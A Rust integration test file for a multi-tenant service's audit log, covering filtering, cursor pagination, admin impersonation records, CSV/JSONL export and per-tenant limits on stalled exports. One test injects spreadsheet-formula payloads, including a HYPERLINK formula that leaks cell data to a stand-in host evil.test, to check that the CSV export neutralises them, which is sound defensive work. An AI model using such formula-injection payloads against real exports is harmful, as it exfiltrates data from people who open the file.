//! The audit trail read model and its query.

use crate::helpers::{ADMIN_TOKEN, expect_status, spawn_app};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

#[tokio::test]
async fn the_audit_log_shows_who_did_what_newest_first_with_filters_and_cursors() {
    let app = spawn_app().await;
    let tenant = app.create_tenant("audited").await;
    let other = app.create_tenant("other").await;
    let base = format!("/v1/tenants/{}", tenant.id);
    let (ann, _) = app.add_member(&tenant, "ann@audited.test", "analyst").await;
    let response = app
        .request(Method::PATCH, &format!("{base}/members/{ann}"), Some(&tenant.key))
        .header("x-request-id", "role-change-1")
        .header("user-agent", "audit-test")
        .json(&json!({"role": "auditor"}))
        .send()
        .await
        .unwrap();
    expect_status(response, StatusCode::OK).await;
    expect_status(
        app.patch(
            &format!("/v1/tenants/{}", other.id),
            &other.key,
            json!({"name": "Elsewhere"}),
        )
        .await,
        StatusCode::OK,
    )
    .await;

    let log = expect_status(app.get(&format!("{base}/audit-log"), &tenant.key).await, StatusCode::OK).await;
    let items = log["items"].as_array().unwrap();
    let actions: Vec<&str> = items.iter().map(|e| e["action"].as_str().unwrap()).collect();
    assert_eq!(
        actions,
        [
            "MemberRoleChanged",
            "ApiKeyCreated",
            "InvitationAccepted",
            "MemberInvited",
            "OverridesSet",
            "SubscriptionCreated",
            "ApiKeyCreated",
            "TenantCreated"
        ],
        "newest first, and only this tenant's events"
    );
    let newest = &items[0];
    assert_eq!(newest["actor"], format!("member:{}", tenant.owner_member_id));
    assert_eq!(newest["resource_type"], "tenant");
    assert_eq!(newest["resource_id"], tenant.id.as_str());
    assert_eq!(newest["request_id"], "role-change-1");
    assert_eq!(newest["user_agent"], "audit-test");
    assert_eq!(newest["client_ip"], "127.0.0.1");
    assert!(
        newest["summary"].as_str().unwrap().contains("analyst → auditor"),
        "{newest}"
    );
    let positions: Vec<i64> = items.iter().map(|e| e["position"].as_i64().unwrap()).collect();
    assert!(positions.windows(2).all(|w| w[0] > w[1]));

    let by_action = expect_status(
        app.get(&format!("{base}/audit-log?action=ApiKeyCreated"), &tenant.key)
            .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(by_action["items"].as_array().unwrap().len(), 2);
    let by_actor = expect_status(
        app.get(&format!("{base}/audit-log?actor=member:{ann}"), &tenant.key)
            .await,
        StatusCode::OK,
    )
    .await;
    let ann_actions: Vec<&str> = by_actor["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(ann_actions, ["ApiKeyCreated", "InvitationAccepted"]);
    let by_resource = expect_status(
        app.get(&format!("{base}/audit-log?resource=tenant/{}", tenant.id), &tenant.key)
            .await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(by_resource["items"].as_array().unwrap().len(), 6);

    let cutoff = items[1]["recorded_at"].as_str().unwrap();
    let since = expect_status(
        app.request(Method::GET, &format!("{base}/audit-log"), Some(&tenant.key))
            .query(&[("from", cutoff)])
            .send()
            .await
            .unwrap(),
        StatusCode::OK,
    )
    .await;
    assert_eq!(since["items"].as_array().unwrap().len(), 2);
    let before = expect_status(
        app.request(Method::GET, &format!("{base}/audit-log"), Some(&tenant.key))
            .query(&[("to", cutoff)])
            .send()
            .await
            .unwrap(),
        StatusCode::OK,
    )
    .await;
    // TenantCreated, its key, SubscriptionCreated and the test override.
    assert_eq!(before["items"].as_array().unwrap().len(), 4 + 2);

    // Cursor pagination walks everything exactly once.
    let mut seen: Vec<Value> = vec![];
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("{base}/audit-log?limit=4&cursor={c}"),
            None => format!("{base}/audit-log?limit=4"),
        };
        let page = expect_status(app.get(&path, &tenant.key).await, StatusCode::OK).await;
        seen.extend(page["items"].as_array().unwrap().iter().cloned());
        match page["next_cursor"].as_str() {
            Some(next) => cursor = Some(next.to_owned()),
            None => break,
        }
    }
    assert_eq!(seen, *items);

    // Impersonation by the platform admin is visible.
    let response = app
        .request(Method::PATCH, &base, Some(ADMIN_TOKEN))
        .header("x-coverwatch-impersonate", &tenant.owner_member_id)
        .json(&json!({"industry": "support"}))
        .send()
        .await
        .unwrap();
    expect_status(response, StatusCode::OK).await;
    let log = expect_status(
        app.get(&format!("{base}/audit-log?limit=1"), &tenant.key).await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(log["items"][0]["impersonated_by"], "platform-admin");
    assert_eq!(log["items"][0]["action"], "ProfileUpdated");
}

/// Values an attacker controls (User-Agent, X-Request-Id, names in
/// summaries) reach the CSV export neutralised: no cell starts with a
/// character a spreadsheet evaluates. The export is a download.
#[tokio::test]
async fn the_csv_export_neutralises_formulas_and_is_an_attachment() {
    let app = spawn_app().await;
    let tenant = app.create_tenant("formulas").await;
    let response = app
        .request(Method::PATCH, &format!("/v1/tenants/{}", tenant.id), Some(&tenant.key))
        .header("user-agent", "=HYPERLINK(\"http://evil.test/?leak=\"&A1, \"click\")")
        .header("x-request-id", "+1+1")
        .json(&json!({"name": "@SUM(1+1)", "industry": "-2+3"}))
        .send()
        .await
        .unwrap();
    crate::helpers::expect_status(response, StatusCode::OK).await;
    let base = format!("/v1/tenants/{}/audit-log/export", tenant.id);
    let csv = app.get(&format!("{base}?format=csv"), &tenant.key).await;
    assert_eq!(csv.status(), StatusCode::OK);
    let disposition = csv.headers()["content-disposition"].to_str().unwrap().to_owned();
    assert!(
        disposition.starts_with(&format!("attachment; filename=\"coverwatch-audit-{}-", tenant.id))
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    let text = csv.text().await.unwrap();
    let row = text
        .lines()
        .find(|l| l.contains("ProfileUpdated"))
        .expect("the profile update");
    assert!(
        row.contains("\"'=HYPERLINK(\"\"http://evil.test/?leak=\"\"&A1, \"\"click\"\")\""),
        "{row}"
    );
    assert!(row.contains(",'+1+1,"), "the request id: {row}");
    for cell in cells(&text) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would evaluate: {cell:?}"
        );
    }
    let jsonl = app.get(&format!("{base}?format=jsonl"), &tenant.key).await;
    assert!(
        jsonl.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .ends_with(".jsonl\"")
    );
}

/// The cells of a CSV text as a spreadsheet reads them (quotes removed).
fn cells(text: &str) -> Vec<String> {
    let mut cells = vec![];
    let (mut cell, mut quoted, mut chars) = (String::new(), false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            ('"', _) => quoted = !quoted,
            (',' | '\n', false) => cells.push(std::mem::take(&mut cell)),
            (c, _) => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

/// Exports opened and never read do not starve anyone else: each tenant
/// runs at most a few long reads at once (429 beyond), on connections of
/// their own, so another tenant is served at normal latency meanwhile; an
/// export whose client stopped reading is abandoned after the idle time.
#[tokio::test]
async fn stalled_exports_hold_their_own_connections_and_other_tenants_are_served() {
    let app = crate::helpers::spawn_app_with(std::sync::Arc::new(coverwatch_domain::clock::SystemClock), |s| {
        s.http.streams_per_tenant = 2;
        s.http.stream_idle_secs = 2;
    })
    .await;
    let hoarder = app.create_tenant("hoarder").await;
    let bystander = app.create_tenant("bystander").await;
    // A long log (~40 MB as JSON Lines), far more than socket buffers hold,
    // so an unread export blocks on its client.
    sqlx::query(
        "INSERT INTO audit_log (tenant_id, position, event_id, recorded_at, actor, action, resource_type,
                                resource_id, request_id, correlation_id, causation_id, summary)
         SELECT $1, 1000000 + n, gen_random_uuid(), now(), 'member:x', 'ProfileUpdated', 'tenant', $1::text,
                'req', 'corr', 'cause', repeat('long summary ', 20)
           FROM generate_series(1, 100000) AS n",
    )
    .bind(uuid::Uuid::parse_str(&hoarder.id).unwrap())
    .execute(&app.pool)
    .await
    .unwrap();

    let export = format!("/v1/tenants/{}/audit-log/export", hoarder.id);
    let mut held = Vec::new();
    let mut refused = 0;
    for _ in 0..20 {
        let response = app.get(&export, &hoarder.key).await;
        match response.status() {
            StatusCode::OK => held.push(response), // never read
            StatusCode::TOO_MANY_REQUESTS => {
                assert!(response.headers().contains_key("retry-after"));
                let problem =
                    crate::helpers::expect_problem(response, StatusCode::TOO_MANY_REQUESTS, "too-many-streams").await;
                assert!(problem["detail"].as_str().unwrap().contains('2'), "{problem}");
                refused += 1;
            }
            other => panic!("an export answered {other}"),
        }
    }
    assert_eq!((held.len(), refused), (2, 18), "two at once per tenant");
    // Verification and state-as-of are long reads too, bounded the same way.
    crate::helpers::expect_problem(
        app.get(&format!("/v1/tenants/{}/verify", hoarder.id), &hoarder.key)
            .await,
        StatusCode::TOO_MANY_REQUESTS,
        "too-many-streams",
    )
    .await;

    // Meanwhile the other tenant works as usual, reads and writes.
    let started = std::time::Instant::now();
    for i in 0..10 {
        let path = format!("/v1/tenants/{}", bystander.id);
        let one = std::time::Instant::now();
        expect_status(app.get(&path, &bystander.key).await, StatusCode::OK).await;
        expect_status(
            app.get(&format!("{path}/audit-log"), &bystander.key).await,
            StatusCode::OK,
        )
        .await;
        expect_status(
            app.patch(&path, &bystander.key, json!({"name": format!("Bystander {i}")}))
                .await,
            StatusCode::OK,
        )
        .await;
        assert!(
            one.elapsed() < std::time::Duration::from_secs(2),
            "took {:?}",
            one.elapsed()
        );
    }
    let own = app
        .get(
            &format!("/v1/tenants/{}/audit-log/export", bystander.id),
            &bystander.key,
        )
        .await;
    assert_eq!(own.status(), StatusCode::OK);
    assert!(
        own.text().await.unwrap().lines().count() >= 10,
        "the bystander's whole export"
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(10));

    // The hoarder's stalled exports are abandoned once they wait on their
    // client past the idle time; then the hoarder may export again.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let response = app.get(&export, &hoarder.key).await;
        if response.status() == StatusCode::OK {
            break;
        }
        assert_eq!(response.status(), StatusCode::TOO_MANY_REQUESTS);
        assert!(
            std::time::Instant::now() < deadline,
            "the stalled exports were never abandoned"
        );
        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    }
    drop(held);
}
